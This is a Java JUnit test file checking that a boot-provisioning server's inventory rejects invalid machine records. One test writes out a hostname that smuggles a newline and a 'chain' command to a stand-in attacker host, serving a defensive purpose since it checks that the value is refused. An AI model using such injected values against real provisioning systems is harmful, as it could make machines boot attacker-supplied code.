package dev.provisioner.server.core;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.provisioner.server.store.MemoryMachineStore;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/** Every write goes through the rules, whichever caller (API, discovery, UI) makes it; on the in-memory store. */
class InventoryTest {

    private static final MacAddress MAC = MacAddress.parse("52:54:00:12:34:56").orElseThrow();

    private final MemoryMachineStore machines = new MemoryMachineStore();
    private final Inventory inventory = new Inventory(machines, new FixedProfiles()
            .add(new Profile("worker", new BootSpec("k", List.of(), List.of()), Optional.empty())));

    private static Machine named(String hostname, String profile) {
        return new Machine(MAC, hostname, profile, Map.of(), Map.of());
    }

    @Test
    void aMachineThatBreaksARuleIsNeverStoredWhateverTheVerb() {
        Machine evil = named("evil\nchain http://attacker.example/x", "worker");
        assertThatThrownBy(() -> inventory.register(evil)).isInstanceOf(InvalidMachineException.class);
        assertThatThrownBy(() -> inventory.replace(evil)).isInstanceOf(InvalidMachineException.class);
        assertThat(machines.list()).isEmpty();

        inventory.register(named("good", "worker"));
        assertThatThrownBy(() -> inventory.change(MAC, m -> named("bad name", "worker")))
                .isInstanceOfSatisfying(InvalidMachineException.class, e -> assertThat(e.violations())
                        .extracting(Violation::field).containsExactly("hostname"));
        assertThat(machines.get(MAC).orElseThrow().hostname()).isEqualTo("good");
    }

    @Test
    void twoMachinesCannotShareAHostnameSinceTheSwarmKnowsNodesByIt() {
        inventory.register(named("blade-1", "worker"));
        Machine twin = new Machine(MacAddress.parse("52:54:00:00:00:02").orElseThrow(), "Blade-1", "worker", Map.of(), Map.of());
        assertThatThrownBy(() -> inventory.register(twin))
                .isInstanceOfSatisfying(InvalidMachineException.class, e -> assertThat(e.violations())
                        .containsExactly(new Violation("hostname", "already the hostname of machine 52:54:00:12:34:56")));
        // a machine keeps its own name through a replace
        assertThat(inventory.replace(named("blade-1", "worker"))).isFalse();
    }

    @Test
    void aWriteMustNameAProfileThatExists() {
        assertThatThrownBy(() -> inventory.register(named("a", "nosuch")))
                .isInstanceOfSatisfying(InvalidMachineException.class, e -> assertThat(e.violations())
                        .containsExactly(new Violation("profile", "no profile 'nosuch' in the data directory")));
    }

    @Test
    void aChangeCannotMoveAMachineToAnotherMac() {
        inventory.register(named("a", "worker"));
        MacAddress other = MacAddress.parse("52:54:00:00:00:01").orElseThrow();
        assertThatThrownBy(() -> inventory.change(MAC, m -> new Machine(other, "a", "worker", Map.of(), Map.of())))
                .isInstanceOf(InvalidMachineException.class);
        assertThat(machines.get(other)).isEmpty();
    }

    @Test
    void unknownMachinesAreNotFoundAndTakenMacsConflict() {
        assertThatThrownBy(() -> inventory.change(MAC, m -> m)).isInstanceOf(MachineNotFoundException.class);
        assertThatThrownBy(() -> inventory.delete(MAC)).isInstanceOf(MachineNotFoundException.class);
        inventory.register(named("a", "worker"));
        assertThatThrownBy(() -> inventory.register(named("b", "worker"))).isInstanceOf(MachineExistsException.class);
        assertThat(inventory.replace(named("b", "worker"))).isFalse();
        inventory.delete(MAC);
        assertThat(inventory.list()).isEmpty();
    }
}
